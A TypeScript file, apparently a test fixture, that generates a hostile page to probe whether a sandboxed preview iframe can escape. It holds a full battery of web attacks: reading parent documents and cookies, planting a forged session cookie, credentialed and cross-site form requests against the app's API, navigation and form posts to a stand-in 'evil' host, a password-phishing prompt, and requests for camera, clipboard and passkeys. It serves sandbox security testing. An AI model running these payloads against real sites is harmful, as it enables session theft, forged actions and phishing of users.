/** A page that tries everything against whoever shows it in a frame, and tells its parent how each try went. */

type Tried = Record<string, string>

/** Runs in the page: everything that it needs is given to it. `app` is the owner's app, `evil` a host of its own. */
async function attack({ app, evil }: { app: string; evil: string }): Promise<void> {
  const tried: Tried = {}
  const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms))

  /** Succeeds only with an answer: undefined, null and false are as good as a refusal. */
  async function attempt(name: string, steps: () => unknown) {
    try {
      const gained = await Promise.race([steps(), pause(3000)])
      tried[name] = gained ? `gained ${JSON.stringify(gained) ?? typeof gained}`.slice(0, 80) : 'nothing'
    } catch (error) {
      tried[name] = `refused: ${error instanceof Error ? error.name : String(error)}`
    }
  }

  const linkTo = (href: string, attributes: Record<string, string>) => {
    const link = Object.assign(document.createElement('a'), { href })
    for (const [name, value] of Object.entries(attributes)) link.setAttribute(name, value)
    document.body.append(link)
    link.click()
  }
  const submitTo = (action: string, target: string, method = 'post') => {
    const form = Object.assign(document.createElement('form'), {
      action,
      target,
      method,
      enctype: 'text/plain',
    })
    form.innerHTML = '<input name=\'{"name":"Mallory","x":"\' value=\'"}\'>'
    document.body.append(form)
    form.submit()
  }
  const loaded = (element: HTMLElement) =>
    new Promise((resolve) => {
      element.addEventListener('load', () => resolve('loaded'))
      element.addEventListener('error', () => resolve(undefined))
      document.body.append(element)
    })
  const frame = async (
    attributes: Partial<HTMLIFrameElement>,
    read: (inner: HTMLIFrameElement) => unknown,
  ) => {
    const inner = Object.assign(document.createElement('iframe'), attributes)
    document.body.append(inner)
    await pause(500)
    return read(inner)
  }
  const json = { 'content-type': 'application/json' }
  const body = '{"name":"Mallory"}'

  // The page around it.
  await attempt('parent document', () => parent.document.body.textContent)
  await attempt('top document', () => top?.document.title)
  await attempt('write to parent', () => parent.document.body.append('owned'))
  await attempt('parent address', () => parent.location.href)
  await attempt('parent storage', () => parent.localStorage.length + 1)
  await attempt('sibling document', () => (parent.frames[0] as Window).document.documentElement.outerHTML)
  await attempt('opener', () => window.opener as unknown)
  await attempt('parent of a nested frame', () =>
    frame({ srcdoc: '<p>inner' }, (inner) => inner.contentWindow?.parent.parent.document.title),
  )
  await attempt('history of the top', () => top?.history.length)

  // What is stored.
  await attempt('read cookies', () => `${document.cookie} cookies`)
  await attempt('write cookies', () => (document.cookie = 'sid=evil; path=/'))
  await attempt('localStorage', () => localStorage.setItem('x', 'y') ?? 'stored')
  await attempt('sessionStorage', () => sessionStorage.setItem('x', 'y') ?? 'stored')
  await attempt('indexedDB', () => indexedDB.open('x'))
  await attempt('caches', () => caches.open('x'))
  await attempt('service worker', () => navigator.serviceWorker.register('/bar-preview.js'))
  await attempt('storage access', () => document.requestStorageAccess().then(() => 'granted'))
  await attempt('document.domain', () => (document.domain = location.hostname))

  // The owner's calls.
  await attempt('read the account', async () =>
    (await fetch(`${app}/api/account`, { credentials: 'include' })).text(),
  )
  await attempt(
    'change the person',
    async () =>
      (await fetch(`${app}/api/me`, { method: 'PATCH', credentials: 'include', headers: json, body })).status,
  )
  await attempt('change the person blindly', async () => {
    await fetch(`${app}/api/me`, { method: 'POST', mode: 'no-cors', credentials: 'include', body })
  })
  await attempt(
    'XMLHttpRequest',
    () =>
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest()
        request.withCredentials = true
        request.open('GET', `${app}/api/campaigns`)
        request.addEventListener('load', () => resolve(request.responseText))
        request.addEventListener('error', reject)
        request.send()
      }),
  )
  const answered = (asked: EventTarget, event: string) =>
    new Promise((resolve, reject) => {
      asked.addEventListener(event, () => resolve(event))
      asked.addEventListener('error', reject)
    })
  await attempt('WebSocket', () => answered(new WebSocket(app.replace('http', 'ws')), 'open'))
  await attempt('event stream', () =>
    answered(new EventSource(`${app}/api/account`, { withCredentials: true }), 'open'),
  )
  await attempt('account as a module', () =>
    loaded(Object.assign(document.createElement('script'), { type: 'module', src: `${app}/api/account` })),
  )
  await attempt('a worker of the app', () => answered(new Worker(`${app}/bar-preview.js`), 'message'))
  await attempt('account as a script', () =>
    loaded(Object.assign(document.createElement('script'), { src: `${app}/api/account` })),
  )
  await attempt('account as an image', () =>
    loaded(Object.assign(document.createElement('img'), { src: `${app}/api/account` })),
  )
  await attempt('beacon', () => void navigator.sendBeacon(`${app}/api/sign-out`, body))
  await attempt('the app in a frame', () =>
    frame({ src: `${app}/campaigns` }, (inner) => inner.contentDocument?.body.textContent),
  )
  await attempt('another page of the preview host', async () => (await fetch('/frame-content/x')).text())

  // Ways out of the frame.
  await attempt('open a window', () => window.open(evil))
  await attempt('open a known frame', () => window.open(evil, 'stage'))
  await attempt('link to the top', () => linkTo(evil, { target: '_top' }))
  await attempt('link to a new window', () => linkTo(evil, { target: '_blank' }))
  await attempt('download', () => linkTo('data:text/plain,owned', { download: 'owned.txt' }))
  await attempt('form to the top', () => submitTo(evil, '_top'))
  await attempt('form to the app', () => submitTo(`${app}/api/sign-out`, '_self'))
  await attempt('form in a new window', () => submitTo(evil, '_blank', 'get'))
  await attempt('dialog', () => confirm('Sign in again?'))
  await attempt('prompt', () => prompt('Your password?'))
  await attempt('fullscreen', () => document.documentElement.requestFullscreen().then(() => 'shown'))
  await attempt(
    'where the owner is',
    () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
  )
  await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }))
  await attempt('what was copied', () => navigator.clipboard.readText())
  await attempt('notifications', async () => (await Notification.requestPermission()) === 'granted')
  await attempt('passwords and passkeys', () =>
    navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8) } }),
  )
  await attempt('script in the top', () => top?.location.assign('javascript:alert(1)'))
  await attempt('top address', () => top?.location.assign(evil))
  await attempt('top address at once', () => {
    if (top) top.location.href = evil
  })

  parent.postMessage({ tried }, '*')
}

export function hostilePage(targets: { app: string; evil: string }): string {
  return `<script>(${attack.toString()})(${JSON.stringify(targets)})</script>`
}
